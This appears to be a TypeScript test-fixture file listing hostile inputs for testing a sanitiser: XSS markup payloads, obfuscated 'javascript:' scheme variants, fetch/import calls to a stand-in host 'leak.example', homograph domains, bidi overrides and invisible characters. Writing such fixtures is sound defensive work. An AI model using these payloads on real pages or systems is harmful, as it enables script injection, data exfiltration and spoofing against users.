/** What would tell that it has run. */
export const codes = [
  'trap(1)',
  'trap`1`',
  'window.trap(1)',
  'fetch("https://leak.example/")',
  'new Image().src="https://leak.example/"',
  'import("https://leak.example/x.js")',
];

/** What stands before code or an address, also written in ways that a lax reader undoes. */
export const schemes = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', 'java\0script:', '\u0001javascript:',
  'javascript&colon;', '&#106;avascript:', '&#x6A;&#x61;vascript:', 'javascript%3A', '%6Aavascript:', 'javas\u00adcript:',
  'javascript://docs.dev/%0a', 'javascript:https://docs.dev/*', 'data:text/html,<script>', 'data:text/html;base64,',
  'data:image/svg+xml,<svg onload=', 'vbscript:', 'VBSCRIPT:', 'view-source:javascript:', 'feed:javascript:', 'blob:',
  'filesystem:', 'file:///', 'ftp://', 'about:', 'intent://', 'ws://', 'jar:', 'tel:', 'sms:', '//', '\\\\', '/\\', 'http:', 'https:/',
  'https://', 'http://', 'mailto:', 'https://docs.dev@', 'https://docs.dev:a@', 'https://docs.dev%40',
]; // prettier-ignore

export const hosts = [
  'leak.example/',
  'leak.example/a?b#c',
  'docs.dev.leak.example/',
  'localhost:1/',
  '[::1]/',
  '127.1/',
  '0x7f000001/',
  'a'.repeat(3000),
  '',
];

/** Names that look like others. */
export const homographs = [
  'аррӏе.com',
  'gооgle.com',
  'xn--80ak6aa92e.com',
  'docs。dev',
  'docs․dev',
  'dос\u200bs.dev',
  'ｄｏｃｓ.dev',
  'docs.dev\u2215login.leak.example',
  'bücher.example',
];

/** What HTML would run or load. */
export const markup = [
  '<script>CODE</script>', '<SCRIPT SRC=https://leak.example/x.js></SCRIPT>', '<img src=x onerror=CODE>', '<img src=https://leak.example/i>',
  '<svg onload=CODE>', '<svg><script>CODE</script></svg>', '<svg><a xlink:href="javascript:CODE"><text>a</text></a></svg>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s>', '<svg><use href="https://leak.example/#x"/>', '<math><mtext><script>CODE</script>',
  '<math href="javascript:CODE">a</math>', '<iframe src="javascript:CODE">', '<iframe srcdoc="<script>CODE</script>">', '<object data="javascript:CODE">',
  '<embed src="javascript:CODE">', '<link rel=stylesheet href=https://leak.example/c>', '<style>@import "https://leak.example/c"</style>',
  '<style>*{background:url(https://leak.example/b)}</style>', '<meta http-equiv=refresh content="0;url=javascript:CODE">',
  '<base href=https://leak.example/>', '<form action="javascript:CODE"><input autofocus onfocus=CODE>', '<details open ontoggle=CODE>',
  '<video><source onerror=CODE>', '<audio src=x onerror=CODE>', '<body onload=CODE>', '<a href="javascript:CODE">a</a>', '"><img src=x onerror=CODE>',
  "'-CODE-'", '${CODE}', '{{constructor.constructor("CODE")()}}', '<!--<img src="--><img src=x onerror=CODE>//">', ']]><script>CODE</script>',
  '<template><script>CODE</script></template>', '<docent-chat-code></docent-chat-code>', '<slot></slot>', '<?xml version="1.0"?>', '<!--?lit$123$?-->',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">', '<x style="animation-name:x" onanimationstart=CODE>', '\u003cscript\u003eCODE',
  '&lt;script&gt;CODE&lt;/script&gt;', '+ADw-script+AD4-CODE+ADw-/script+AD4-', '<a href=https://leak.example/ ping=https://leak.example/>a</a>',
]; // prettier-ignore

/** Marks that turn the direction of what follows, closed by nothing. */
export const bidi = [
  '\u202e',
  '\u202d',
  '\u202b',
  '\u2067',
  '\u2066',
  '\u200f',
  '\u061c',
  '\u202egpj.exe',
  '\u2067\u202e\u202e\u202e',
];

export const unseen = ['', ' ', '\u200b', '\u2800', '\u3164', '\u00ad', '\ufeff', '\u0000'];
